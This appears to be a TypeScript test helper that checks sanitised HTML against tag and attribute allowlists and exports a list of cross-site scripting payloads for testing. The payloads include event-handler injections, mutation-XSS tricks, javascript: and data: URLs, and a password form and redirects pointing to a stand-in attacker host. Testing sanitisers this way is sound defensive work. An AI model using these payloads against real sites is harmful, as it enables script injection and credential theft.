import { expect } from "vitest";

const tags = new Set(
  "html head meta title style body main header div img table tr td p br strong em u a ul ol li h1 h2 h3 h4 span".split(
    " ",
  ),
);
const attributes = new Set(
  "lang charset name content class style align role width height cellpadding cellspacing border href src alt".split(
    " ",
  ),
);

/** Asserts that a page contains nothing that a browser would execute or fetch from elsewhere. */
export function expectInert(html: string): void {
  for (const [whole, , tag = "", rest = ""] of html.matchAll(/<(\/?)([a-z!][^\s>/]*)([^>]*)>/gi)) {
    if (/^!doctype$/i.test(tag)) continue;
    expect(tags, whole).toContain(tag.toLowerCase());
    const quoted = rest.replaceAll(/"[^"]*"/g, '""');
    for (const [, name = ""] of quoted.matchAll(/([^\s=/"]+)(?:\s*=\s*"")?/g)) {
      expect(attributes, whole).toContain(name.toLowerCase());
    }
    for (const [, address = ""] of rest.matchAll(/(?:href|src)="([^"]*)"/gi)) {
      expect(address, whole).toMatch(/^(?:https?:\/\/|mailto:|\/api\/files\/[0-9a-f]{32}\.png$)/);
    }
    expect(rest, whole).not.toMatch(/url\(|expression|javascript:|vbscript:|data:/i);
  }
  expect(html.replaceAll(/<[^>]*>/g, ""), "loose markup").not.toMatch(/<\s*\w/);
}

/**
 * Markup that has executed scripts in some browser or sanitiser, or would lead a reader elsewhere.
 */
export const attacks: readonly string[] = [
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `<svg onload=alert(1)><animate onbegin=alert(1)></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `<body onload=alert(1)>`,
  `<p onclick="alert(1)" style="background:url(javascript:alert(1))">x</p>`,
  `<span style="color:#fff;position:fixed;inset:0">x</span>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="java&#10;script:alert(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href='https://example.com/"onmouseover="alert(1)'>x</a>`,
  `<form action="https://evil.example"><input name=password><button>x</button></form>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<link rel="stylesheet" href="https://evil.example/x.css"><style>p{color:red}</style>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `"><script>alert(1)</script>`,
  `</title></head><script>alert(1)</script>`,
  `<p/onclick=alert(1)>x</p>`,
  `<details open ontoggle=alert(1)>x</details>`,
];
